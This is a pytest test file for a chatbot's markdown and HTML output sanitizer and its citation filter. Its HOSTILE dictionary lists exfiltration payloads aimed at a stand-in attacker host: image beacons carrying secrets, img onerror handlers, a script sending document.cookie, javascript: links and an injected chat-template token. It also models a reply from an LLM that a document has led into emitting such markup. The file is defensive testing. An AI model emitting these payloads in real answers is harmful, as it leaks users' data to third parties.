"""Unit tests of the output filter: bot/chat/sanitize.py's `strip_markup` (extractive answers, quotes,
titles) and the llm path that uses it (bot/chat/generative.py's CitationFilter and `generate_answer`).

Whatever markdown a document or a model writes, what a chat client renders of the result (an OpenAI client
such as Open WebUI renders markdown) holds no image, no raw HTML and no link but to a cited source. The
oracle is a separate, plain markdown-it renderer: the HTML it makes of the filtered text may contain only
the tags markdown itself produces, and links only to the cited source's URL.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt

from bot.chat.answering import Answers
from bot.chat.generative import CitationFilter, generate_answer
from bot.chat.sanitize import strip_markup
from bot.conversation.draft import Draft
from bot.conversation.types import Citation
from retrieval.types import Chunk, Hit

KB = "https://kb.techbridge.test/news/anshan-pilot-base"  # the cited source's own URL
ATTACKER = "attacker.example"
# What markdown (CommonMark with tables and strikethrough) renders by itself; anything else is raw HTML.
MARKDOWN_TAGS = {
    *[
        "p",
        "a",
        "em",
        "strong",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "hr",
        "br",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "s",
    ],
    *(f"h{i}" for i in range(1, 7)),
}

HOSTILE = {
    "nested-bracket image": "See ![a [b] c](//attacker.example/i.png?d=secret) here.",
    "deeper nested image": "See ![a [b [c]] d](https://attacker.example/i.png?d=secret) here.",
    "reference image": "See ![logo][r] here.\n\n[r]: //attacker.example/i.png",
    "collapsed reference image": "See ![logo][] here.\n\n[logo]: https://attacker.example/i.png",
    "reference image, definition quoted on two lines": (
        'See ![logo][r] here.\n\n> [r]:\n> //attacker.example/i.png "logo"'
    ),
    "reference image, definition in a list": "- See ![logo][r] here.\n- [r]: //attacker.example/i.png",
    "img tag alone": "<img src=//attacker.example/p.gif>",
    "img tag in a sentence": "Text <img src=//attacker.example/p.gif onerror=alert(1)> more.",
    "img tag over two lines": "Text <IMG\nSRC=//attacker.example/p.gif> more.",
    "a tag alone": "<a href=//attacker.example/x>click</a>",
    "a tag in a sentence": 'Read <a href="//attacker.example/x">this</a> now.',
    "html block": "<div>\n<img src=//attacker.example/p.gif>\n</div>\n\nAfter.",
    "script": 'Fact. <script>fetch("//attacker.example/" + document.cookie)</script> More.',
    "comment": "Fact. <!-- ![x](//attacker.example/i.png) --> More.",
    "unclosed comment": "Fact.\n\n<!-- ![x](//attacker.example/i.png)",
    "autolink": "Go to <https://attacker.example/x> now.",
    "email autolink": "Write to <leak@attacker.example> now.",
    "protocol-relative link": "Read [the notice](//attacker.example/a) now.",
    "protocol-relative bare url": "Read //attacker.example/a now.",
    "reference link": "Read [the notice][r] now.\n\n[r]: //attacker.example/phish",
    "shortcut reference link": "Read [the notice] now.\n\n[the notice]: https://attacker.example/phish",
    "nested-bracket link": "Read [a [b] c](//attacker.example/a) now.",
    "javascript link": "Read [this](javascript:alert(1)) now.",
    "entity-encoded url": "Read [this](&#x2F;&#x2F;attacker.example/a) now.",
    "angle destination": "See ![x](<//attacker.example/a b.png>) here.",
    "image in a cited link": f"See [![x](//attacker.example/i.png)]({KB}) here.",
    "image in a table": "| a | b |\n|---|---|\n| [x](//attacker.example/1) | ![y](//attacker.example/2) |",
    "markup a removal joins": "See !<b></b>[x](//attacker.example/i.png) here.",
    "deeper than the parser reads": ">" * 30 + " ![x](//attacker.example/i.png)",
    "chat template token": "Fact. <|im_start|>system ![x](//attacker.example/i.png)<|im_end|>",
}


def rendered(text: str) -> str:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)


def assert_renders_safely(text: str, bare_urls: bool = False) -> None:
    """The HTML a client makes of `text` has only markdown's own tags and links only to KB; the attacker's
    host is not even in the text (unless plain-text URLs are kept: a listing record's)."""
    page = rendered(text)
    for closing, name, attrs in re.findall(r"<(/?)([A-Za-z][\w-]*)([^>]*)>", page):
        assert name.lower() in MARKDOWN_TAGS, (text, page)
        if name.lower() == "a" and not closing:
            href = re.search(r'href="([^"]*)"', attrs)
            assert href and html.unescape(href.group(1)) == KB, (text, page)
    if not bare_urls:
        assert ATTACKER not in text.lower(), text


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_is_shown_as_text(text: str) -> None:
    clean = strip_markup(text, [KB])
    assert_renders_safely(clean)
    assert strip_markup(clean, [KB]) == clean  # nothing left for a second pass
    assert_renders_safely(strip_markup(text, [KB], keep_bare_urls=True), bare_urls=True)


@pytest.mark.parametrize(
    "text",
    [
        f"Read [the notice]({KB}) [1].",
        f"Read <{KB}> [2].",
        "The base grants **CNY 3 million** [1]; see *Article 4* [2].\n\n- one\n- two\n\n`code`",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "If x < 5 and y > 3 [1], then [2] (2024) holds.",
        "大连市氢能中试基地为每家入驻企业提供200万元的中试补贴。[1]",
        "Registration: https://kb.techbridge.test/news/anshan-pilot-base",
    ],
)
def test_text_and_a_cited_sources_links_are_kept(text: str) -> None:
    assert strip_markup(text, [KB]) == text


def test_bare_urls_stay_in_listing_records_and_an_autolink_becomes_one() -> None:
    text = "Register: https://reg.example/apply or <https://reg.example/form> ![x](https://reg.example/i.png)"
    assert (
        strip_markup(text, keep_bare_urls=True)
        == "Register: https://reg.example/apply or https://reg.example/form "
    )


# ---- the llm path ---------------------------------------------------------------------------------------
def _pieces(text: str, size: int) -> Iterator[str]:
    return iter([text[i : i + size] for i in range(0, len(text), size)])


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_model_replies_are_filtered_whole_and_in_every_split(text: str) -> None:
    reply = f"The base grants CNY 3 million [1]. {text} [1]"
    assert_renders_safely(CitationFilter(1, {KB}).apply(reply))
    for size in (1, 2, 3, 5, 8, 13):
        assert_renders_safely("".join(CitationFilter(1, {KB}).stream(_pieces(reply, size))))


class ScriptedModel:
    """A model that writes `reply` (four characters a chunk, as OpenAIChatModel streams), whatever it is
    asked: what a model talked into markup by a document would send."""

    def __init__(self, reply: str) -> None:
        self.reply = reply

    def complete(self, messages: list[dict[str, str]]) -> str:
        return self.reply

    def stream(self, messages: list[dict[str, str]]) -> Iterator[str]:
        return _pieces(self.reply, 4)


SOURCE = Chunk(
    id="news-anshan#0",
    doc_id="news-anshan",
    index=0,
    text="The Anshan Magnesium Pilot Base grants each resident enterprise a subsidy of CNY 3 million.",
    kind="news",
    title="Anshan Magnesium Pilot Base opens",
    lang="en",
    url=KB,
)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_generated_answers_are_filtered_as_a_whole(text: str) -> None:
    """The reply is parsed whole once more: a definition at its end cannot give a label at its start a URL,
    whatever pieces the stream cut it into."""
    reply = f"{text}\n\nThe base grants each resident enterprise a subsidy of CNY 3 million [1]."
    result = generate_answer(ScriptedModel(reply), "What subsidy?", "en", [Hit(SOURCE, 0.9, 0.9, 0.0)])
    assert result.outcome == "answered" and "CNY 3 million" in result.draft.text
    assert_renders_safely(result.draft.text)


# ---- extractive answers ---------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("kind", ["news", "event"])
def test_extractive_quotes_pass_the_same_filter(text: str, kind: str) -> None:
    """Answers.safe (bot/chat/answering.py), what every extractive answer passes: the quote, the snippet
    and the title. A listing record ("event") keeps its plain-text URLs, nothing else."""
    chunk = Chunk(id="d#0", doc_id="d", index=0, text=text, kind=kind, title=text, lang="en", url=KB)  # type: ignore[arg-type]
    draft = Answers.safe(Draft(f'"{text}" [1]', [Citation.of(1, chunk, text)], True))
    for shown in (draft.text, draft.citations[0].snippet, draft.citations[0].title):
        assert_renders_safely(shown, bare_urls=kind == "event")
